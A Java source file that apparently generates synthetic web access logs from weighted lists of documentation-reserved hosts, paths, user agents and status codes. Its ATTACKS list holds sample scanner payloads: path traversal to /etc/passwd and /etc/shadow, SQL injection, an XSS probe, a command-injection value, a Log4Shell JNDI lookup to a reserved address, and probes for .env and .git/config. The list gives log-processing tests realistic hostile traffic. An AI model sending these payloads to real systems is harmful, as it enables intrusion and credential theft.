package io.streamweir.stages.accesslog;

import java.util.ArrayList;
import java.util.List;

/**
 * Who asks for what in the sample log. Hosts are addresses and names reserved for documentation
 * (RFC 5737, 3849, 2606).
 */
final class SampleTraffic {
  static final Weighted HOSTS = Weighted.zipf(hosts());
  static final Weighted PATHS = Weighted.zipf(paths());

  static final Weighted QUERIES =
      Weighted.evenly(
          "?page=2",
          "?q=redis+streams&sort=date",
          "?utm_source=newsletter&utm_medium=email",
          "?v=1.8.2",
          "?lang=de&ref=caf%C3%A9");

  static final Weighted METHODS =
      Weighted.of("GET:930", "POST:40", "HEAD:20", "OPTIONS:5", "PUT:5");
  static final Weighted STATUSES =
      Weighted.of(
          "200:880", "304:60", "301:20", "206:8", "302:6", "404:20", "403:3", "401:2", "500:1");
  static final Weighted OUTAGE_STATUSES = Weighted.of("200:50", "503:35", "502:10", "500:5");
  static final Weighted ATTACK_STATUSES =
      Weighted.of("404:70", "403:15", "400:10", "200:3", "500:2");

  static final Weighted REFERERS =
      Weighted.evenly(
          "-",
          "-",
          "https://www.example.com/",
          "https://www.example.com/articles/",
          "https://search.example.net/?q=redis+streams",
          "https://news.example.org/item?id=4711",
          "https://search.example.net/?q=\\\"at least once\\\"");

  static final Weighted PEOPLE =
      Weighted.evenly(
          "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
              + " Chrome/133.0.0.0 Safari/537.36",
          "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)"
              + " Version/18.3 Safari/605.1.15",
          "Mozilla/5.0 (X11; Linux x86_64; rv:135.0) Gecko/20100101 Firefox/135.0",
          "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like"
              + " Gecko) Version/18.3 Mobile/15E148 Safari/604.1",
          "Mozilla/5.0 (Linux; Android 15; Pixel 9) AppleWebKit/537.36 (KHTML, like Gecko)"
              + " Chrome/133.0.0.0 Mobile Safari/537.36",
          "Mozilla/5.0 (Linux; Android 14; CUBOT KINGKONG 9) AppleWebKit/537.36 (KHTML, like Gecko)"
              + " Chrome/131.0.0.0 Mobile Safari/537.36");

  static final Weighted BOTS =
      Weighted.evenly(
          "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
          "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
          "Mozilla/5.0 (compatible; ExampleCrawler/3.1; +https://crawler.example.net/)",
          "FeedReader/2.4 (+https://feeds.example.org/; 17 subscribers)",
          "curl/8.5.0",
          "python-requests/2.32.3",
          "-");

  static final Weighted ATTACKS =
      Weighted.evenly(
          "/download?file=../../../../etc/passwd",
          "/images/..%2f..%2f..%2fetc/shadow",
          "/static/%2e%2e/%2e%2e/app/config.yml",
          "/articles?id=7%27%20OR%20%271%27=%271",
          "/search?q=x%27%20UNION%20SELECT%20name,password%20FROM%20users--",
          "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
          "/ping?host=127.0.0.1;cat%20/etc/hostname",
          "/?x=${jndi:ldap://203.0.113.66/a}",
          "/wp-login.php",
          "/.env",
          "/.git/config",
          "/phpmyadmin/index.php");

  /**
   * Requests that are none, as they are really seen: nothing sent, TLS to a plain port, no
   * protocol, small letters.
   */
  static final Weighted ODD_REQUESTS =
      Weighted.evenly(
          "-",
          "\\x16\\x03\\x01\\x02",
          "GET /",
          "get / HTTP/1.1",
          "SSH-2.0-OpenSSH_9.6",
          "GET /files/yearly report 2025.pdf HTTP/1.1",
          "GET /quotes/\\\"to be\\\" HTTP/1.1",
          "PRI * HTTP/2.0",
          "CONNECT www.example.org:443 HTTP/1.1");

  private SampleTraffic() {}

  private static List<String> hosts() {
    List<String> hosts = new ArrayList<>();
    for (int i = 1; i <= 240; i++) {
      hosts.add("192.0.2." + i);
      hosts.add("198.51.100." + (241 - i));
      hosts.add(i % 3 == 0 ? "2001:db8::" + Integer.toHexString(i * 17) : "203.0.113." + i);
      if (i % 8 == 0) {
        hosts.add("crawl-" + i + ".example.net");
      }
    }
    return hosts;
  }

  private static List<String> paths() {
    List<String> paths =
        new ArrayList<>(
            List.of(
                "/",
                "/css/site.css",
                "/js/app.js",
                "/favicon.ico",
                "/images/logo.svg",
                "/feed.xml",
                "/articles/",
                "/robots.txt",
                "/fonts/text.woff2",
                "/search",
                "/about",
                "/api/items",
                "/login",
                "/contact",
                "/sitemap.xml"));
    String[] topics = {"streams", "retries", "leases", "backoff", "lag", "schemas", "drains"};
    for (int i = 0; i < 84; i++) {
      String topic = topics[i % topics.length] + "-" + (i / topics.length + 1);
      paths.add("/articles/2026/" + topic);
      paths.add("/images/" + topic + (i % 2 == 0 ? ".webp" : ".png"));
    }
    paths.add("/downloads/handbook.pdf");
    paths.add("/caf%C3%A9/menu");
    return paths;
  }
}
